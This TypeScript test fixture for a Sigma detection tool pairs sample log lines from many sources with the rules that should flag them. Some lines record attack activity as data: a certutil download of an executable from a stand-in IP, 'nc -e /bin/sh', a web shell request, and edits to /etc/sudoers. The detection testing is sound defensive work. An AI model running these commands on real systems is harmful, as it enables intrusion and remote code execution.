import type { RuleFile } from "@tyr/sigma";

/** A line of one kind of source, and the rules, in the words of the public rule sets, that must find it. */
export type SourceLine = Readonly<{ source: string; line: string; rules: readonly string[] }>;

const json = (event: Readonly<Record<string, unknown>>): string => JSON.stringify(event);
const at = "2026-02-01T10:00:00.000Z";
const sysmon = "Microsoft-Windows-Sysmon/Operational";
const rule = (logsource: string, detection: string): string => `{ ${logsource} } | ${detection}`;

/** What collect reads itself, and what others post as JSON in the shapes their shippers give it. */
export const sourceLines: readonly SourceLine[] = [
  {
    source: "sshd's log",
    line: "Feb  1 10:00:00 gate sshd[9]: Failed password for invalid user eve from 203.0.113.7 port 4000 ssh2",
    rules: [
      rule("product: linux, service: sshd", "keywords: [Failed password]"),
      rule("product: linux, service: auth", "keywords: [invalid user]"),
      rule("category: authentication, service: auth", "s: { user.name: eve }"),
      rule("product: linux", "keywords: [ssh2]"),
    ],
  },
  {
    source: "sudo's log",
    line: "Feb  1 10:00:00 gate sudo:  eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/vi /etc/sudoers",
    rules: [
      rule("product: linux, service: sudo", "s: { CommandLine|contains: /etc/sudoers }"),
      rule("product: linux, service: auth", "keywords: [COMMAND=/bin/vi]"),
    ],
  },
  {
    source: "any program that logs to the facility authpriv",
    line: "<86>Feb  1 10:00:00 gate myauth: refused eve",
    rules: [rule("product: linux, service: auth", "keywords: [refused eve]")],
  },
  {
    source: "cron's log",
    line: "Feb  1 10:00:00 gate CRON[9]: (root) CMD (/tmp/x.sh)",
    rules: [
      rule("product: linux, service: cron", "keywords: [/tmp/x.sh]"),
      rule("product: linux, service: syslog", "keywords: ['CMD (/tmp']"),
    ],
  },
  {
    source: "a program the table does not know",
    line: "Feb  1 10:00:00 gate frobnicator[9]: stopping the firewall",
    rules: [
      rule("product: linux, service: syslog", "keywords: [stopping the firewall]"),
      rule("product: linux, service: frobnicator", "keywords: [stopping]"),
    ],
  },
  {
    source: "an access log",
    line: '203.0.113.7 - - [01/Feb/2026:10:00:00 +0000] "GET /shell.php?cmd=id HTTP/1.1" 200 1 "-" "sqlmap/1.8"',
    rules: [
      rule("category: webserver", "s: { cs-uri-query|contains: cmd=, sc-status: 200 }"),
      rule("product: apache", "s: { cs-uri-stem|endswith: /shell.php }"),
      rule("product: nginx", "s: { cs-user-agent|contains: sqlmap }"),
      rule("service: nginx", "keywords: [shell.php]"),
      rule("service: apache", "keywords: [shell.php]"),
    ],
  },
  {
    source: "Cowrie's log",
    line: json({
      eventid: "cowrie.login.success",
      username: "root",
      password: "admin",
      protocol: "ssh",
      timestamp: at,
      src_ip: "203.0.113.7",
      session: "a1",
    }),
    rules: [
      rule("product: cowrie", "s: { eventid: cowrie.login.success }"),
      rule("service: cowrie", "s: { username: root }"),
      rule("product: cowrie, service: sshd", "s: { src_ip: 203.0.113.7 }"),
      rule("category: authentication", "s: { event.outcome: success }"),
    ],
  },
  {
    source: "Windows events as NXLog writes them",
    line: json({
      Channel: sysmon,
      EventID: 1,
      UtcTime: "2026-02-01 10:00:00.123",
      Image: "C:\\Windows\\System32\\certutil.exe",
      CommandLine: "certutil -urlcache -f http://203.0.113.7/a.exe",
    }),
    rules: [
      rule("product: windows, category: process_creation", "s: { Image|endswith: \\certutil.exe }"),
      rule("product: windows, service: sysmon", "s: { EventID: 1 }"),
    ],
  },
  {
    source: "Windows events as Winlogbeat writes them",
    line: json({
      "@timestamp": at,
      event: { code: "4625", provider: "Microsoft-Windows-Security-Auditing" },
      winlog: { channel: "Security", event_id: 4625, event_data: { TargetUserName: "eve", LogonType: "3" } },
    }),
    rules: [
      rule("product: windows, service: security", "s: { winlog.event_id: 4625, winlog.event_data.LogonType: 3 }"),
    ],
  },
  {
    source: "the Linux audit system",
    line: json({ type: "EXECVE", msg: "audit(1769940000.000:1)", a0: "nc", a1: "-e", a2: "/bin/sh" }),
    rules: [
      rule("product: linux, service: auditd", "s: { type: EXECVE, a1: -e }"),
      rule("product: linux, category: process_creation", "s: { a0: nc }"),
    ],
  },
  {
    source: "Zeek",
    line: json({
      _path: "conn",
      ts: 1769940000.5,
      "id.orig_h": "203.0.113.7",
      "id.resp_h": "10.0.0.5",
      "id.resp_p": 445,
    }),
    rules: [
      rule("product: zeek, service: conn", "s: { id.resp_p: 445 }"),
      rule("category: firewall", "s: { id.orig_h|cidr: 203.0.113.0/24 }"),
    ],
  },
  {
    source: "Suricata",
    line: json({
      timestamp: "2026-02-01T10:00:00.000000+0000",
      flow_id: 17,
      event_type: "dns",
      src_ip: "10.0.0.5",
      dns: { type: "query", rrname: "evil.example" },
    }),
    rules: [
      rule("product: suricata, service: dns", "s: { dns.rrname: evil.example }"),
      rule("category: dns", "s: { dns.rrname|endswith: .example }"),
    ],
  },
  {
    source: "OpenCanary",
    line: json({ logtype: 4002, node_id: "canary-1", utc_time: "2026-02-01 10:00:00.000000", src_host: "203.0.113.7" }),
    rules: [rule("product: opencanary, category: application", "s: { logtype: 4002 }")],
  },
  {
    source: "AWS CloudTrail",
    line: json({
      eventTime: "2026-02-01T10:00:00Z",
      eventSource: "iam.amazonaws.com",
      eventName: "CreateAccessKey",
      awsRegion: "us-east-1",
    }),
    rules: [rule("product: aws, service: cloudtrail", "s: { eventName: CreateAccessKey }")],
  },
  {
    source: "a sender who says what its events are",
    line: json({ timestamp: at, product: "acme", service: "gate", kind: "auth_attempt", badge: "007" }),
    rules: [
      rule("product: acme, service: gate", "s: { badge: '007' }"),
      rule("product: acme, category: authentication", "s: { badge|startswith: '00' }"),
    ],
  },
];

/** The id of the `at`-th rule of a line. */
export function sourceRuleId(line: number, at: number): string {
  return `5eed0000-0000-4000-8000-${String(line * 100 + at).padStart(12, "0")}`;
}

/** Every rule above as a file of its own. */
export const sourceRules: readonly RuleFile[] = sourceLines.flatMap(({ source, rules }, line) =>
  rules.map((one, place) => {
    const [logsource = "", detection = ""] = one.split(" | ", 2);
    const text = `title: ${JSON.stringify(`${source} ${place}`)}
id: ${sourceRuleId(line, place)}
level: medium
logsource: ${logsource}
detection:
  ${detection}
  condition: ${detection.startsWith("keywords") ? "keywords" : "s"}
`;
    return { path: `${line}-${place}.yml`, text };
  }),
);
